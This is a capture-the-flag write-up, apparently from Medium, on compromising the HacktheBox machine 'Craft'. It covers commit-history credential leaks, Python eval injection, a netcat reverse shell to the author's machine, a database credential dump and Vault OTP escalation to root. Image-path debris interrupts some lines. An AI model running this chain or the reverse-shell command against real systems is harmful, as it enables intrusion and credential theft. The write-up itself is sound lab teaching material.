HacktheBox — Craft

Jan 4 · 13 min read

This is a write-up on how I solved Craft from HacktheBox.

Hack the Box is an online platform where you practice your penetration testing skills.

As always, I try to explain how I understood the concepts here from the machine because I want to really understand how things work. So please, if I misunderstood a concept, please let me know.About the box:

Craft is one of my favorite machines. It requires you to enumerate properly, and “loot” on an exposed Gogs repository where you can see credentials from previous commits. Digging into the repository leads to the exposure of the source code of an application where a Python eval can be abused. This initial access leads to modifications of a database connection script which you can edit to dump credentials. Logging in as one of the users, you can then misuse a secrets manager called Vault to login as root.


I first run an nmap scan by invoking:

nmap -p- -oA nmap/allports-tcp

It results to:

I follow upanother scan:

nmap -p 22,443,6022 -sV -sC -oA nmap/initial

It results to:

22/tcp open ssh OpenSSH 7.4p1 Debian 10+deb9u5 (protocol 2.0)
| ssh-hostkey:
| 2048 bd:e7:6c:22:81:7a:db:3e:c0:f0:73:1d:f3:af:77:65 (RSA)
| 25682:b5:f9:d1:95:3b:6d:80:0f:35:91:86:2d:b3:d7:66 (ECDSA)
|_ 256 28:3b:26:18:ec:df:b3:36:85:9c:27:54:8d:8c:e1:33 (ED25519)
443/tcp open ssl/http nginx 1.15.8
|_http-server-header: nginx/1.15.8
|_http-title: About
| ssl-cert: Subject: commonName=craft.htb/organizationName=Craft/stateOrProvinceName=NY/countryName=US
| Not valid before: 2019-02-06T02:25:47
|_Not valid after:2020-06-20T02:25:47
|_ssl-date: TLS randomness does not represent time
| tls-alpn:
|_ http/1.1
| tls-nextprotoneg:
|_ http/1.1
6022/tcp open ssh (protocol 2.0)
| fingerprint-strings:
|_ SSH-2.0-Go
| ssh-hostkey:
|_ 2048 5b:cc:bf:f1:a1:8f:72:b0:c0:fb:df:a3:01:dc:a6:fb (RSA)
1 service unrecognized despite returning data. If you know the service/version, please submit the following fingerprint at https://nmap.org/cgi-bin/submit.cgi?new-service :
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Open ports are 22, 443, and 6022. The scan gives information of the ssl-cert, most interesting is the commonName field.

I then add this to my /etc/hosts file:    craft.htb

When I try to visit port 443:

I am prompted with a warning. This is because the certificate used by the machine is not known to Mozilla. This is common in HacktheBox machines.Other Craft subdomains:

On the landing page of craft.htb, it indicates that their repository is accessible over REST API. Clicking the two options on the upper right, it leads us to a subdomain.

Clicking on the API, it leads to the URL api.craft.htb/api/, but it seems to fail to load the site.

Clicking on the logo beside API, it leads to gogs.craft.htb, which also fails. This is because of a concept called Virtual Hosting.

I then add the subdomains to my /etc/hosts so they will load.    craft.htb api.craft.htb gogs.craft.htb

Craft API:

After editing the hosts file, I can now view the 2 subdomains

Craft Gogs:

I then run a directory bruteforce on the gogs subdomain using Gobuster since Gogs is a repository:gobuster dir -u https://gogs.craft.htb -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -o gobuster-gogs.out -kWhile waiting for the results of Gobuster, I played with the Craft API. The most useful are check, login, and brew. Its different operations and their respective request URL’s are:

GET /auth/check
Checks validity of an authorization token
URL: https://api.craft.htb/api/auth/check
GET /auth/login
Create an authentication token provided valid username and password
URL: https://api.craft.htb/api/auth/login
POST /brew/
Creates a new brew entry
URL: https://api.craft.htb/api/brew/

Checking auth login:I used basic credentials like admin:admin, but doesn’t work and get a server response like this:

Most likely if I have valid credentials, it will generate an authorization token which we can verify using /auth/check. Checking /brew, it requires an authorization token before we can post data.

Going to the Gobuster results of the Gogs subdomain, I can see that there is an administrator leaf:

/img(Status: 302)
/admin (Status: 302)
/assets (Status: 302)
/issues (Status: 302)
/plugins (Status: 302)
/css (Status: 302)
/avatars (Status: 302)
/js (Status: 302)
/explore (Status: 302)
/administrator (Status: 200)
/debug (Status: 200)
/craft (Status: 200)
/less (Status: 302)

Visiting /administrator:

Checking its repositories, I can see craft-api:

I then checked the users, and find 4. Theyare administrator, ebachman, dinesh, girfoyle. The last 3 being characters from the series Silicon Valley.

Checking the repository, I can see numerous source codes:

Checking dbtest.py, it’s a database connection test script which includes a SQL query to check if it works. Note also where the details of the login are from.

Checking test.py, I can see familiar URL’s from the API subdomain. What stands out here is the auth parameter and the header X-Craft-API-Token which should be included(with a valid token) for me to interact with other functionalities of the API.

Checking also auth.py, it shows what is required in the authorizations:Other information how the auth.py works:

Digging into other files, brew.py has an interesting line in its code.

The code includes an eval function which takes whatever is set as abv. There is also a comment to use sane ABV values. Checking the Issues, I see where that comment is from:

This is another mention of the header X-Craft-API-Token. Clicking the commit mentionted leads to this:

It seems the fix made included the eval function found earlier. I can try to abuse the eval function but it requires that we have credentials to get a token. Checking the commit history:

Checking the commit add test script(I can also see this by checking the history of the test.py), it exposes credentials:


The commit cleanup test removed the creds.

Using the credentials, I can login to Gogs as dinesh:

Using the same credentials, I can authenticate to the API:

And I am given a valid token:

I then inspect the auth login request to see its headers:

It uses Basic as its Authorization method, which is basically base64 encoding of the username and password:

I then include in the request to /auth/check the header X-Craft-Api-Token:The token is valid.

Since I now have a way to obtain a token, I can now play with /api/brew. Note that earlier it was mentioned(and according to the script) that values for abv should be less than 1. I try posting a value of abv=1.1:

As expected. I then post an abv value of 0.2:

Since everything is working as expected, I now try to play with the eval function. Remember that there exists a line under brew.py, which directly passess the value of abv directly to eval:

# make sure the ABV value is sane.
if eval('%s > 1' % request.json['abv']):
return "ABV must be a decimal value less than 1.0", 400
return None, 201

I first open a python2 interactive shell to check how I can misuse this. I can use a global import function and use its methods.

Seeing that it works locally, I now try it on the machine. I can verify code execution by making it ping my machine:Since I can get pings from craft.htb, I now setup my listener to catch a reverse shell:

I then run a system command:

nc 9001 -e/bin/sh

And see that I get my shell. Note that when I run id, I am root.

I also try to get a proper shell, but failed to do so:

I then run ifconfig to check my ip, verifying if it’s If not, then most likely I need to pivot and I maybe in a docker container. I also find a .dockerenv file on the / directory. This verifies we are in a container.

I also run a ping sweep in case I need to pivot later on:

for ip in $(seq 1 254); do (ping -c 1 172.20.0.$ip | grep "bytes from" | cut -d ":" -f1 |cut -d " " -f4 &); done

I then decided to go back to the files of the app. For me to check the files of the repository, I use find to look for brew.py, which most likely have files near(and some files may not be in the Gogs) it that can be interesting:

Since I am inside the machine, I then try to run dbtest.py(which I encountered earlier):

Note that inside dbtest.py, there is an import settings:

I then searched for the settings module under craft_api:

Note that the settings.py is not in Gogs:

Reading settings.py, I find the CRAFT_API_SECRET and database details. This is what’s imported when I run dbtest.py.Since I can run python scripts, I then decided to create a similar script like dbtest.py, but with different SQL commands. I tried using curl but it is not installed in the box, luckily wget is available:

I changed the SQL to “SELECT user();” to verify if this works(I am expecting to be the craft user). Note that I edit also fetchone method to fetchall.

Checking the models.py under database folder, I can see that id,brewer,name,style,abv are columns under Brew and id,username,password are columns under User.

I then edit fakedbtest.py with the SQL statement to check table names:

"SELECT table_name FROM information_schema.tables;"

This leads to many tables but what’s important is the Brew and Users table:

Finally, I then edit fakedbtest.py with the SQL statement to list all data under the user table:


And I get the credentials of the users:

[{'id': 1, 'username': 'dinesh', 'password': '4aUh0A8PbVJxgd'}, {'id': 4, 'username': 'ebachman', 'password': 'llJ77D8QFkLPQB'}, {'id': 5, 'username': 'gilfoyle', 'password':'ZEU3N8WNM2rh4T'}]

I then tried the credentials on SSH on port 22 and 6022, but all of them are invalid.

I then use the credentials to login at Gogs, the credentials for ebachman doesn’t work, but gilfoyle’s works:

I then spot a craft-infra repository:

It includes files for .ssh, mysql, nginx, flask, and vault. The includes configs ofthose running services. You can check them out so you can understand how the infrastructure was built and how it ended up functioning like that.

Under the .ssh folder, there exists an OpenSSH private key:

I can use this key to login as gilfoyle, using the same password from the database:

And now I can read user.txt:

gilfoyle@craft:~$ cat user.txt

Getting Root:

After running ls -al, a file called .vault-token stands out.

Checking its contents:Also a quick search leads to the Hashicorp’s Vault. You can read more about it and its common commands here:

I go back to the repository and check files under thedirectory vault:

This is just a configuration file where the SSL files are kept under vault. The other file is more intersting.

Note that a secret for ssh is enabled. Checking for possible options:

I try the token command and its subcommands(capabilities and lookup):

Note that the token’s capabilities is root.

I try the login command and am prompted that I give the token. Giving it the token authenticates us with token_policies as root:

Since SSH was mentioned in the repository, I exploire the vault ssh command:

Otp rings a bell as it is mentioned in the secrets.sh file:

vault write ssh/roles/root_otp \
key_type=otp \
default_user=root \

Trying to use ssh with -mode=otp and logging as root@localhost:

I am able to login and can now read root.txt:

root@craft:~# cat root.txt

Note that the port 6022 is docker stuff.

So that’s how I solved Craft. I learned tons of stuff solving this box. I wish more boxes are like this. Seems very intuitive when solving.

I hoped you learned something from this. Thanks for reading my write-up! Cheers!

InfoSec Write-ups

A collection of write-ups from the best hackers in the world on topics ranging from bug bounties and CTFs to vulnhub machines, hardware challenges and real life encounters. In a nutshell, we are the largest InfoSec publication on Medium.Maintained by Hackrew


Written by


Infosec enthusiast || Aspiring penetration tester

InfoSec Write-ups

A collection of write-ups from the best hackers in the world on topicsranging from bug bounties and CTFs to vulnhub machines, hardware challenges and real life encounters. In a nutshell, we are the largest InfoSec publication on Medium. Maintained by Hackrew

More From Medium

Welcome to a place where words matter. On Medium, smart voices and original ideas take center stage - with no ads in sight. Watch
Follow all the topics you careabout, and we’ll deliver the best stories for you toyour homepage and inbox. Explore
Get unlimited access to the best stories on Medium — and support writers whileyou’re at it. Just $5/month. Upgrade